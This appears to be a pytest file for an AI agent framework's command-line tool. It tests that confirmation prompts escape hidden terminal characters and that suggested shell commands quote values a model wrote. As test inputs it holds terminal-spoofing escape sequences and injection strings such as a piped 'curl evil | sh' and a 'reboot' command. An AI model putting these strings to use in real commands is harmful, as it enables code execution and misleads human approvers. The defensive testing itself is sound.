"""Text of questions on a terminal has no hidden characters and cannot move the cursor."""

from __future__ import annotations

import shlex
from io import StringIO
from typing import Literal

import pytest
from rich.console import Console

from framework.cli.confirm import ask_human
from framework.cli.run import print_result
from framework.cli.run_view import RunTree
from framework.cli.show import Lines, as_visible_json, how_to_decide, line
from framework.types.events import Event, RunFinished, Thought, ToolFinished, ToolStarted, Warned
from framework.types.report import IncompleteStep
from framework.types.state import Confirmation, Reject, RunResult
from framework.types.text import visible

TRICKS = "\x1b[2J\u202emoc.live\u200b\x9b\r"
HEAD = {"run_id": "r", "seq": 1, "generation": 1}


@pytest.mark.hostile(7)
def test_asi09_a_question_escapes_invisible_characters(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("click.termui.visible_prompt_func", lambda _: "r")
    question = Confirmation(id="c", kind="tool", agent="a", tool="pay", arguments={f"to{TRICKS}": TRICKS}, hash="h")
    assert isinstance(ask_human(question), Reject)
    shown = capsys.readouterr().err
    assert "\\u202emoc.live\\u200b\\x9b" in shown
    assert not any(sign in shown for sign in "\x1b\u202e\u200b\x9b")


def test_visible_characters_are_shown_unchanged() -> None:
    assert visible("naïve 好 'quoted' 👍") == "naïve 好 'quoted' 👍"
    assert as_visible_json({"a": ["好", 1]}) == '{"a": ["好", 1]}'


def test_asi09_lines_of_a_run_stay_lines() -> None:
    started = line(ToolStarted(**HEAD, id="c", tool="pay", arguments={f"a{TRICKS}": TRICKS}))
    finished = line(ToolFinished(**HEAD, id="c", tool="pay", status="success", result=TRICKS, elapsed_ms=1))
    for text in (started, finished):
        assert text is not None
        assert text.isprintable()


def thought(text: str, seq: int = 0, message: str = "m") -> Thought:
    return Thought(run_id="r", seq=seq, generation=1, message_id=message, text=text)


DONE = RunFinished(**HEAD, status="completed", finish_reason="final", output="")
THOUGHTS: dict[str, tuple[list[Event], list[str]]] = {
    "left out": ([thought("I "), thought("see"), DONE], ["I see"]),
    "with a rest": ([thought("I "), thought("see"), thought("\nLet me look", seq=1), DONE], ["I see (+1 lines)"]),
    "whole": ([thought("I see", seq=1), DONE], ["I see"]),
    "two messages": ([thought("one"), thought("two", message="n")], ["one", "two"]),
    "to the end": ([thought("I "), thought("see")], ["I see"]),
}


@pytest.mark.parametrize("case", THOUGHTS)
def test_a_thought_that_arrives_in_deltas_is_one_line(case: str, capsys: pytest.CaptureFixture[str]) -> None:
    received, shown = THOUGHTS[case]
    view = Lines()
    for event in received:
        view.show(event)
    view.close()
    assert [text.removeprefix("· ") for text in capsys.readouterr().err.splitlines()] == shown


def test_a_thought_of_a_failed_attempt_is_not_printed(capsys: pytest.CaptureFixture[str]) -> None:
    view = Lines()
    view.show(thought("void"))
    view.show(Warned(**HEAD, code="model_retry", message="again", message_id="m"))
    view.close()
    assert capsys.readouterr().err == "! again\n"


@pytest.mark.parametrize("case", THOUGHTS)
def test_a_thought_that_arrives_in_deltas_is_one_line_of_the_tree(case: str) -> None:
    received, shown = THOUGHTS[case]
    screen = StringIO()
    tree = RunTree("title")
    for event in received:
        tree.add(event)
    Console(file=screen, width=80).print(tree.shown)
    texts = [text.partition("· ")[2].strip() for text in screen.getvalue().splitlines() if "· " in text]
    assert texts[-len(shown) :] == shown


@pytest.mark.hostile(7)
@pytest.mark.parametrize(
    ("kind", "count", "words"),
    [
        ("ask_user", 1, ["--answer", "yes'; curl evil | sh; '$(x)"]),
        ("ask_user", 2, ["--respond", "c'; reboot; '=yes'; curl evil | sh; '$(x)"]),
        ("tool", 1, ["--approve", "c'; reboot; '"]),
    ],
)
def test_asi09_a_suggested_command_executes_nothing_that_a_model_wrote(
    kind: Literal["ask_user", "tool"], count: int, words: list[str]
) -> None:
    choices = ("yes'; curl evil | sh; '$(x)",) if kind == "ask_user" else ()
    question = Confirmation(id="c'; reboot; '", kind=kind, agent="a", tool="t", arguments={}, hash="h", choices=choices)
    result = RunResult(
        run_id="r",
        status="paused",
        finish_reason="confirmation",
        output="",
        messages=(),
        steps=1,
        agent="a",
        generation=1,
        digest="d",
        pending=(question,) * count,
        elapsed_ms=1,
    )
    command = how_to_decide(result).removeprefix("decide: ").partition(" (or --reject")[0]
    assert shlex.split(command) == ["agentsd", "runs", "decide", "r", *words]


def test_asi09_steps_that_a_plan_left_out_are_shown_after_its_answer(capsys: pytest.CaptureFixture[str]) -> None:
    steps = (
        IncompleteStep(id="b", description="fetch", status="failed", reason=f"no{TRICKS}\nroute"),
        IncompleteStep(id="c", description="read", status="skipped", reason="b was not done"),
    )
    given = {"run_id": "r", "messages": (), "steps": 1, "agent": "a", "generation": 1, "digest": ""}
    result = RunResult(status="completed", finish_reason="final", output="half", incomplete=steps, **given)

    assert print_result(result, as_json=False) == 0
    shown = capsys.readouterr()
    assert shown.out == "half\n"
    assert shown.err.startswith("incomplete: step b failed: no")
    assert shown.err.endswith("route; step c skipped: b was not done\n")
    assert not any(sign in shown.err for sign in "\x1b\u202e\u200b\x9b")
